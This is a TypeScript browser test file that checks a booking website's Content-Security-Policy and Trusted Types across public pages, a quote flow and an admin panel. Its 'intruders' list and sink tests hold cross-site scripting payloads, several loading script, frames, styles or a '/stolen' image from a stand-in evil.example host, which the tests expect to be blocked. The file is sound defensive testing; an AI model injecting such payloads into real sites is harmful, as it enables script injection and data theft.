import type { BrowserContext, Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { savePost } from '#functions/data/posts.ts';
import { dialog, fillSignIn, nextDownload, noise, openLead, openLeads } from './admin-desk.ts';
import { aPhoto, arriveAtStatus, control, fillIn, submitButton } from './booking-visitor.ts';
import { wake } from './hydration.ts';
import { productInBrowser } from './product.ts';

const site = productInBrowser({ quotes: true, isWhole: true });

/** What the Content-Security-Policy refused in a browser context: page, directive, what was refused. */
async function refusalsIn(context: BrowserContext): Promise<string[]> {
  const refusals: string[] = [];
  await context.exposeFunction('tellRefusal', (text: string) => void refusals.push(text));
  await context.addInitScript(() => {
    const tell = (window as unknown as { tellRefusal: (text: string) => void }).tellRefusal; // exposed above
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      tell(`${location.pathname} ${effectiveDirective} ${blockedURI}`),
    );
  });
  return refusals;
}

async function bookWithPhotos(page: Page): Promise<void> {
  await page.goto('/booking?debug=1');
  await fillIn(page);
  await control(page, 'photos').setInputFiles([await aPhoto('bow.jpg'), await aPhoto('stern.jpg')]);
  await submitButton(page).click();
  await arriveAtStatus(page);
}

/** One page of each template; a word on the console of any other fails hydration.test.ts. */
const templates = [
  '/',
  '/services',
  '/services/restorer',
  '/locations/malibu',
  '/blog',
  '/privacy',
  '/thank-you',
  '/my-link',
  '/blog/oxidation-explained',
  '/nothing-here',
];

test('no template of a prerendered page does what its policy forbids', async () => {
  const context = await site.visitor({ expectedNoise: /404 \(Not Found\)/ });
  const refusals = await refusalsIn(context);
  const page = await context.newPage();
  for (const path of templates) {
    await page.goto(path);
    await wake(page);
  }
  expect(refusals).toEqual([]);
});

test('no booking with photos, status page, saved estimate or post newer than the build does what its policy forbids', async () => {
  const context = await site.visitor();
  const refusals = await refusalsIn(context);
  const page = await context.newPage();
  await bookWithPhotos(page);

  await page.goto('/quotes/new');
  await page.getByLabel('Length').fill('28');
  await page.getByRole('button', { name: 'Save' }).click();
  await page.waitForURL(/\/quote\/[\w-]{22,}$/);
  await page.getByRole('heading', { level: 1, name: 'Your quote' }).waitFor();

  await savePost({
    id: 'newer',
    slug: 'newer',
    title: 'Newer than the build',
    body: 'Wax **twice** <script>window.hit = 1</script>',
    tags: [],
    published: true,
    created_at: '2026-11-01T16:00:00.000Z',
  });
  await page.goto('/blog/newer');
  expect(await page.locator('#article').innerHTML()).toContain('<strong>twice</strong> &lt;script&gt;');
  expect(refusals).toEqual([]);
});

test('no part of the admin does what its policy forbids: sign-in, table, lead with photos, export, sign-out', async () => {
  const context = await site.visitor(noise());
  const refusals = await refusalsIn(context);
  const page = await context.newPage();
  await bookWithPhotos(page);
  await page.goto('/adminka/login');
  await fillSignIn(page, site.product.admin.email, site.product.admin.password);
  await page.waitForURL('**/adminka');
  await openLeads(page);
  await openLead(page, 'Dana Whitfield');
  const photo = dialog(page).getByRole('button', { name: 'View photo 1 large' });
  await photo.click();
  const large = page.getByRole('dialog', { name: /^Photo 1/ });
  await large.getByRole('img').waitFor();
  await page.keyboard.press('Escape');
  await large.waitFor({ state: 'detached' });
  await page.keyboard.press('Escape');
  await photo.waitFor({ state: 'detached' });
  await nextDownload(page.context(), () => page.getByRole('button', { name: 'Export CSV' }).click());
  await page.getByRole('button', { name: 'Logout' }).click();
  await page.waitForURL('**/adminka/login');
  expect(refusals).toEqual([]);
});

/** Markup that somebody might get into a page, with the directive that stops it. */
const intruders: readonly (readonly [markup: string, directive: string])[] = [
  ['<script>window.hit = 1</script>', 'script-src-elem'],
  ['<script src="https://evil.example/x.js"></script>', 'script-src-elem'],
  ['<script type="module" src="data:text/javascript,window.hit=1"></script>', 'script-src-elem'],
  ['<img src="/icons/favicon.svg" onload="window.hit = 1" alt="">', 'script-src-attr'],
  ['<iframe src="https://evil.example/" title=""></iframe>', 'frame-src'],
  ['<object data="/icons/favicon.svg"></object>', 'object-src'],
  ['<base href="https://evil.example/">', 'base-uri'],
  ['<link rel="stylesheet" href="https://evil.example/x.css">', 'style-src-elem'],
  ['<img src="https://evil.example/stolen" alt="">', 'img-src'],
];

test('injected markup does not run, and is reported', async () => {
  const context = await site.visitor({ expectedNoise: /./ });
  const refusals = await refusalsIn(context);
  const page = await context.newPage();
  await page.route('**/privacy', async (route) => {
    const response = await route.fetch();
    const markup = intruders.map(([markup]) => markup).join('');
    await route.fulfill({ response, body: (await response.text()).replace('<body>', `<body>${markup}`) });
  });
  await page.goto('/privacy');
  const refused = () => refusals.map((text) => text.split(' ')[1]).sort();
  await expect.poll(refused).toEqual(intruders.map(([, directive]) => directive).sort());
  expect(await page.evaluate(() => 'hit' in window)).toBe(false);
});

/** Writes text where a browser would read HTML or script; answers how that ended. */
const write = (page: Page) =>
  page.evaluate(() => {
    const sinks: Record<string, () => void> = {
      innerHTML: () => {
        document.body.innerHTML = '<img src="x" onerror="window.hit = 1">';
      },
      script: () => {
        document.createElement('script').text = 'window.hit = 1';
      },
      address: () => {
        document.createElement('script').src = 'https://evil.example/x.js';
      },
      eval: () => {
        setTimeout('window.hit = 1' as unknown as () => void, 0);
      },
    };
    return Object.entries(sinks).map(([name, sink]) => {
      try {
        sink();
        return `${name} took it`;
      } catch (error) {
        return `${name} ${error instanceof Error ? error.name : ''}`;
      }
    });
  });

test('text never becomes HTML or script on a page, a shell and the admin', async () => {
  const page = await (await site.visitor({ expectedNoise: /./ })).newPage();
  for (const path of ['/', '/status/aaaaaaaaaaaaaaaaaaaaaa', '/adminka/login']) {
    await page.goto(path);
    await page.locator('h1').waitFor();
    const refused = ['innerHTML', 'script', 'address', 'eval'].map((sink) => `${sink} TypeError`);
    expect(await write(page), path).toEqual(refused);
  }
});

test('a page that differs from what React expects is drawn anew all the same', async () => {
  const context = await site.visitor({ expectedNoise: /Hydration differed/ });
  const refusals = await refusalsIn(context);
  const page = await context.newPage();
  await page.route('**/blog', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace('<h1', '<p>translated</p><h1') });
  });
  await page.goto('/blog');
  await wake(page);
  await expect.poll(() => page.getByText('translated').count()).toBe(0);
  expect(await page.locator('#blog-posts').textContent()).toContain('"slug"');
  expect(refusals).toEqual([]);
});
